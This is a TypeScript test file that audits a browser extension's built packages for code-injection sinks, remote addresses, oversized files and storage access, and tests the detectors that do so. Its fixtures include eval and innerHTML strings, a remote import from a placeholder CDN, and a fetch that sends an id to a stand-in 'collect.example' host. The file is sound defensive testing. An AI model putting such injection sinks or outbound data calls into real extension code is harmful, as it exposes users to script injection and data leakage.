/** What is in the packages: one small content script, no string that becomes code, no address but the UN's. */
import { readFileSync, statSync } from 'node:fs';
import { join, posix } from 'node:path';
import { describe, expect, it } from 'vitest';
import { BROWSERS } from '../support/browser';
import { builtExtension, readManifest } from '../support/extension';
import {
  CONTENT_BUDGET,
  contentScriptFaults,
  LARGEST_FILE,
  pageSinks,
  scriptSinks,
  sharedBasenames,
  styleSinks,
} from './bundle';
import { filesBelow, ROOT } from './source-files';

/**
 * Sinks that are known and stay: what it is, the code, and why it is no danger. Anything else fails the build.
 */
const KNOWN_SINKS: readonly { what: string; code: RegExp; why: string }[] = [
  {
    what: 'innerHTML',
    code: /\b\w+\.innerHTML\s*=/,
    why: 'preact sets it for dangerouslySetInnerHTML, which the linter forbids in our own code; Trusted Types stop the rest',
  },
];
/** How often preact's own assignment stands in one copy of it. */
const PREACT_ASSIGNMENTS = 2;

interface ContentScript {
  js: string[];
  css: string[];
}

describe.each(BROWSERS)('the package for %s', (browser) => {
  const directory = builtExtension(browser);
  const files = filesBelow(`dist/${browser}`).map((path) => path.slice(`dist/${browser}/`.length));
  const text = (file: string): string => readFileSync(join(directory, file), 'utf8');
  const manifest = readManifest(directory);
  const [content] = manifest.content_scripts as ContentScript[];

  it('has a content script within its budget, in one file, that names no storage', () => {
    expect(content?.js).toHaveLength(1);
    expect(contentScriptFaults(text(content?.js[0] ?? ''))).toEqual([]);
  });

  it('shows pages nothing but rules for highlights', () => {
    const rules = text(content?.css[0] ?? '').replace(/\/\*[\s\S]*?\*\//g, '');
    const selectors = rules.replace(/@media[^{]*\{/g, '').match(/[^{}]+(?=\{)/g) ?? [];
    expect(selectors.length).toBeGreaterThan(0);
    for (const selector of selectors.flatMap((one) => one.split(','))) {
      expect(selector.trim()).toMatch(/^::highlight\([\w-]+\)$/);
    }
  });

  it('turns no string into code or markup, and names no address but the UN’s', () => {
    const sinks = files.flatMap((file) => {
      if (file.endsWith('.js')) return scriptSinks(text(file)).map((sink) => ({ file, ...sink }));
      if (file.endsWith('.html')) return pageSinks(text(file)).map((sink) => ({ file, ...sink }));
      if (file.endsWith('.css')) return styleSinks(text(file)).map((sink) => ({ file, ...sink }));
      return [];
    });
    const known = sinks.filter((sink) => KNOWN_SINKS.some((one) => one.what === sink.what && one.code.test(sink.code)));
    expect(sinks.filter((sink) => !known.includes(sink))).toEqual([]);
    for (const script of new Set(known.map(({ file }) => file)))
      expect(known.filter(({ file }) => file === script).length, script).toBeLessThanOrEqual(PREACT_ASSIGNMENTS);
  });

  it('has no file that a store refuses, and no map of its sources', () => {
    expect(files.filter((file) => statSync(join(directory, file)).size > LARGEST_FILE)).toEqual([]);
    expect(files.filter((file) => file.endsWith('.map'))).toEqual([]);
  });

  it('wires the background to the background', () => {
    const { background } = manifest;
    const entry = background.service_worker ?? background.scripts?.[0] ?? '';
    const reached = new Set<string>();
    const follow = (file: string): void => {
      if (reached.has(file)) return;
      reached.add(file);
      for (const [, next] of text(file).matchAll(/(?:import|from)\s*["'](\.{1,2}\/[^"']+)["']/g)) {
        follow(posix.join(posix.dirname(file), next ?? ''));
      }
    };
    follow(entry);
    const code = [...reached].map(text).join('\n');
    expect(code).toContain('onInstalled');
    expect(code).not.toContain('CSS.highlights');
    expect(text(content?.js[0] ?? '')).not.toContain('onInstalled');
  });

  it('puts every extension page at its root, with its files where it looks for them', () => {
    const pages = files.filter((file) => file.endsWith('.html'));
    expect(pages).toContain('card.html');
    for (const page of pages) {
      expect(page).not.toContain('/');
      for (const [, address = ''] of text(page).matchAll(/\b(?:src|href)\s*=\s*["']([^"']+)["']/g)) {
        expect(files).toContain(address.replace(/^\.?\//, ''));
      }
    }
  });
});

describe('the entries', () => {
  it('have names of their own', () => {
    const manifest = readManifest(ROOT) as unknown as {
      background: { service_worker: string };
      content_scripts: ContentScript[];
    };
    const pages = filesBelow('src').filter((path) => path.endsWith('.html'));
    const entries = [
      manifest.background.service_worker,
      ...manifest.content_scripts.flatMap((one) => one.js),
      ...pages,
    ];
    expect(entries.length).toBeGreaterThanOrEqual(3);
    expect(sharedBasenames(entries)).toEqual([]);
    expect(sharedBasenames(['src/background/index.ts', 'src/content/index.ts', 'src/card/card.html'])).toEqual([
      'index',
    ]);
  });
});

describe('the checkers', () => {
  it.each([
    ['eval("1")', 'eval'],
    ['(0, eval)(code)', 'eval'],
    ['globalThis.eval(code)', 'eval'],
    ['new Function("a", "return a")', 'new Function'],
    ['Function("return this")()', 'Function'],
    ['element.innerHTML = text', 'innerHTML'],
    ['element.innerHTML += text', 'innerHTML'],
    ['element["outerHTML"] = text', 'outerHTML'],
    ['frame.srcdoc = text', 'srcdoc'],
    ['element.insertAdjacentHTML("beforeend", text)', 'insertAdjacentHTML'],
    ['document.write(text)', 'document.write'],
    ['new DOMParser().parseFromString(text, "text/html")', 'parseFromString'],
    ['setTimeout("go()", 1)', 'setTimeout'],
    ['import("https://cdn.example/x.js")', 'import'],
    ['import(name)', 'import'],
    ['new Worker(url)', 'new Worker'],
    ['new WebSocket(url)', 'new WebSocket'],
    ['fetch("https://collect.example/")', 'address'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the code that is examined.
    ['fetch(`https://collect.example/${id}`)', 'address'],
    ['element.setAttribute("onclick", code)', 'setAttribute'],
  ])('find %s', (code, what) => {
    expect(scriptSinks(code).map((sink) => sink.what)).toContain(what);
  });

  it.each([
    'const eval_ = 1; read.innerHTML; "innerHTML" in element',
    'document.createElementNS("http://www.w3.org/2000/svg", "svg")',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the code that is examined.
    'link.href = `https://undocs.org/${symbol}`; const h = "https://www.un.org/en/"',
    'import("./chunk.js"); stream.write(bytes); setTimeout(() => go(), 1)',
  ])('let pass %s', (code) => {
    expect(scriptSinks(code)).toEqual([]);
  });

  it('do not take another host for one of the UN', () => {
    expect(scriptSinks('fetch("https://undocs.org.collect.example/")')).toHaveLength(1);
    expect(scriptSinks('fetch("https://notun.org/")')).toHaveLength(1);
  });

  it.each([
    '<script>go()</script>',
    '<script src="a.js">go()</script>',
    '<body onload="go()">',
    '<script src="https://cdn.example/a.js"></script>',
    '<link rel="stylesheet" href="//cdn.example/a.css">',
  ])('find in a page %s', (page) => {
    expect(pageSinks(page).length).toBeGreaterThan(0);
  });
  it('let an ordinary page pass', () => {
    expect(
      pageSinks('<head><link rel="stylesheet" href="/a.css"><script type="module" src="/a.js"></script></head>'),
    ).toEqual([]);
  });

  it('find remote style', () => {
    expect(styleSinks('a { background: url(https://x.example/a.png) }')).toHaveLength(1);
    expect(styleSinks('@import "other.css";')).toHaveLength(1);
    expect(styleSinks('a { background: url(icon.svg) }')).toEqual([]);
  });

  it.each([
    [
      'too large',
      `const noise = "${Array.from({ length: CONTENT_BUDGET * 2 }, (_, n) => ((n * 7919) ^ (n * n * 31)) % 9973).join('')}"`,
    ],
    ['in two files', 'import "./other.js"; run()'],
    ['with a late second file', 'import(chrome.runtime.getURL("other.js"))'],
    ['that reads settings itself', 'chrome.storage.local.get()'],
    ['that opens a database', 'indexedDB.open("corpus")'],
    ['that keeps something in the page', 'window["localStorage"].setItem("a", "b")'],
  ])('refuse a content script %s', (_what, code) => {
    expect(contentScriptFaults(code)).toHaveLength(1);
  });
});
